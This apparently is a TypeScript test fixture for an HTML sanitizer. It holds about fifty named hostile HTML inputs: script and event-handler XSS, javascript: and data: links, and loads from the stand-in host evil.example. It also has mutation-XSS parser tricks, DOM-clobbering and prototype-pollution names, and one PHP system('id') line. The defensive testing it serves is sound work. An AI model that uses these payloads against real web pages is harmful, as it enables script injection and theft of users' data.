/**
 * Pages that try to run, to load, to go somewhere or to change what reads them. `RAN` is what each would call. All of them carry the word
 * "Testimony", which is text and has to arrive.
 */
const RAN = 'globalThis.parleyRan=true;process.exit(9)'
const HOST = 'https://evil.example'

export const VECTORS: readonly (readonly [name: string, body: string])[] = [
  ['D1 script', `<script>${RAN}</script>`],
  ['D1 script with a source', `<script src="${HOST}/a.js"></script>`],
  ['D1 module', `<script type="module">import '${HOST}/m.js';${RAN}</script>`],
  ['D1 import map', `<script type="importmap">{"imports":{"zod":"${HOST}/zod.js"}}</script>`],
  ['D1 picture that fails', `<img src=x onerror="${RAN}">`],
  ['D1 picture that loads', `<img src="${HOST}/pixel.gif" onload="${RAN}" srcset="${HOST}/2.gif 2x">`],
  ['D1 picture not yet loaded', `<img data-src="${HOST}/lazy.jpg" class="lazy">`],
  ['D1 handler of the body', `<body onload="${RAN}" onpageshow="${RAN}">`],
  ['D1 handler of focus', `<input autofocus onfocus="${RAN}">`],
  ['D1 details that open', `<details open ontoggle="${RAN}"><summary>s</summary></details>`],
  ['D1 animation', `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RAN}">p</p>`],
  ['D1 svg that loads', `<svg onload="${RAN}"><circle r="1"/></svg>`],
  ['D1 svg script', `<svg><script>${RAN}</script><script href="${HOST}/s.js"/></svg>`],
  ['D1 svg foreign object', `<svg><foreignObject><iframe srcdoc="<script>${RAN}</script>"></iframe></foreignObject></svg>`],
  ['D1 svg use', `<svg><use href="${HOST}/sprite.svg#x"/><image href="${HOST}/i.png"/></svg>`],
  ['D1 svg animate', `<svg><a><animate attributeName="href" values="javascript:${RAN}"/><text>t</text></a></svg>`],
  ['D1 math', `<math href="javascript:${RAN}"><maction actiontype="statusline" xlink:href="javascript:${RAN}">m</maction></math>`],
  ['D1 link of javascript', `<a href="javascript:${RAN}">link</a><a href="java&#10;script:${RAN}">link</a>`],
  ['D1 link of data', `<a href="data:text/html,<script>${RAN}</script>">link</a>`],
  ['D1 frame', `<iframe src="${HOST}/f.html"></iframe><iframe src="javascript:${RAN}"></iframe>`],
  ['D1 frame with a page', `<iframe srcdoc="&lt;script&gt;${RAN}&lt;/script&gt;"></iframe>`],
  ['D1 object and embed', `<object data="${HOST}/o.swf"><embed src="${HOST}/e.swf"></object>`],
  ['D1 applet', `<applet code="Evil.class" codebase="${HOST}"></applet>`],
  ['D1 refresh', `<meta http-equiv="refresh" content="0;url=${HOST}/">`],
  ['D1 base', `<base href="${HOST}/"><a href="a">a</a><img src="b.png">`],
  [
    'D1 stylesheet',
    `<link rel="stylesheet" href="${HOST}/s.css"><style>@import "${HOST}/i.css"; body{background:url(${HOST}/b.png)}</style>`,
  ],
  ['D1 style with an address', `<p style="background:url(${HOST}/b.png);width:expression(${RAN})">p</p>`],
  [
    'D1 prefetch',
    `<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="${HOST}"><link rel="preload" as="script" href="${HOST}/p.js">`,
  ],
  ['D1 manifest and icon', `<link rel="manifest" href="${HOST}/m.json"><link rel="icon" href="${HOST}/i.ico">`],
  [
    'D1 media',
    `<video src="${HOST}/v.mp4" autoplay poster="${HOST}/p.png"><track src="${HOST}/t.vtt"></video><audio src="${HOST}/a.mp3" autoplay></audio>`,
  ],
  [
    'D1 form that goes off',
    `<form action="${HOST}/"><input name="x"><button formaction="javascript:${RAN}">b</button></form><script>document.forms[0].submit()</script>`,
  ],
  ['D1 ping', `<a href="#" ping="${HOST}/ping">a</a>`],
  ['D1 processing instruction', `<?xml-stylesheet href="${HOST}/x.xsl"?><?php system('id') ?>`],
  ['D1 conditional comment', `<!--[if IE]><script>${RAN}</script><![endif]--><!--<img src=x onerror=${RAN}>-->`],
  ['D1 custom element and shadow root', `<x-evil is="x-evil"><template shadowrootmode="open"><script>${RAN}</script></template></x-evil>`],
  ['D2 noscript that ends in an attribute', `<noscript><p title="</noscript><img src=x onerror=${RAN}>"></noscript>`],
  ['D2 style in mglyph', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RAN}&gt;">`],
  ['D2 form in form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RAN}></style>`],
  ['D2 svg style', `<svg></p><style><a id="</style><img src=1 onerror=${RAN}>">`],
  ['D2 title in svg desc', `<svg><desc><title><style></title></style><img src=x onerror=${RAN}></desc></svg>`],
  ['D2 template in select', `<select><template><style></select><img src=x onerror=${RAN}></style></template></select>`],
  ['D2 textarea and xmp', `<textarea></textarea><xmp><p title="</xmp><img src=x onerror=${RAN}>">`],
  [
    'D2 annotation-xml',
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RAN}>"></annotation-xml></math>`,
  ],
  ['D2 table that fosters', `<table><svg><style><td></style><img src=x onerror=${RAN}></table>`],
  ['D2 CDATA', `<svg><![CDATA[</svg><img src=x onerror=${RAN}>]]></svg>`],
  ['D2 comment that ends twice', `<!--><img src=x onerror=${RAN}>--!><img src=x onerror=${RAN}>`],
  [
    'D5 clobbered functions',
    '<img name="getElementById"><img name="querySelectorAll"><form name="body"></form><img name="createElement"><a id="documentElement">a</a>',
  ],
  [
    'D5 clobbered nodes',
    '<form id="f"><input name="parentNode"><input name="attributes"><input name="childNodes"><input name="textContent"><input name="nodeType"></form>',
  ],
  [
    'D5 names of objects',
    '<p id="__proto__" class="constructor" name="toString" __proto__="x" constructor="y" hasownproperty="z">p</p><a id=__proto__><a id=__proto__ name=polluted>',
  ],
]
